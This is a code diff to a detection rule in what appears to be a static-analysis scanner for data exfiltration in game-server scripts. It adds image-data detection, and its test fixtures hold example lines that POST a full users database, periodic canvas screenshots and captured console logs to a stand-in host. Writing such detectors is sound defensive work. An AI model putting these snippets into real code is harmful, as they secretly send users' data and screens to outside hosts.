@@ -1,7 +1,15 @@
 import { fieldOf, originsWithin } from '#analysis/flow/heap.ts'
 import { logServices } from '#analysis/knowledge/hosts.ts'
 import { has, nothing, origin, startOf, type Value } from '#analysis/flow/value.ts'
-import { hasUnknownHost, holdsRows, hostSentTo, hostsIn, httpCall, isForeignCall } from './hosts.ts'
+import {
+  hasUnknownHost,
+  holdsPicture,
+  holdsRows,
+  hostSentTo,
+  hostsIn,
+  httpCall,
+  isForeignCall,
+} from './hosts.ts'
 import { propertyOf } from './code.ts'
 import { defineRule, js, low, lua, medium } from './rule.ts'
 
@@ -80,7 +88,8 @@ export const sendsData = defineRule({
     if (within.some((origins) => (origins & origin.secret) !== 0)) return undefined
     if (
       host !== undefined &&
-      (within.some((origins) => (origins & isPrivate) !== 0) || values.some(holdsRows))
+      (within.some((origins) => (origins & isPrivate) !== 0) ||
+        values.some((value) => holdsRows(value) || holdsPicture(value)))
     )
       return logServices.test(host) && hasOwnKey(values)
         ? low(`${host}, with a key from the settings`)
@@ -174,6 +183,10 @@ end)`,
       lua(`local Proxy = module('vrp', 'lib/Proxy')
 local vRP = Proxy.getInterface('vRP')
 ^PerformHttpRequest('https://a.example', print, 'POST', json.encode(vRP.query('all/users')))`),
+      js(
+        `^setInterval(() => fetch('https://a.example', { method: 'POST', body: canvas.toDataURL() }), 5000)`,
+        'page',
+      ),
       js(`const lines = []
 RegisterConsoleListener((channel, message) => lines.push(message))
 ^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
@@ -245,6 +258,7 @@ request.end(require('fs').readFileSync(name))`),
       lua(`local Proxy = module('vrp', 'lib/Proxy')
 local vRP = Proxy.getInterface('vRP')
 PerformHttpRequest('https://a.example', function() print(vRP.query('all/users')) end)`),
+      js(`fetch('https://garage/save', { method: 'POST', body: canvas.toDataURL() })`, 'page'),
       js(`const lines = []
 RegisterConsoleListener((channel, message) => lines.push(message))
 setInterval(() => fetch('https://a.example', { method: 'POST', body: 'alive' }), 5000)`),
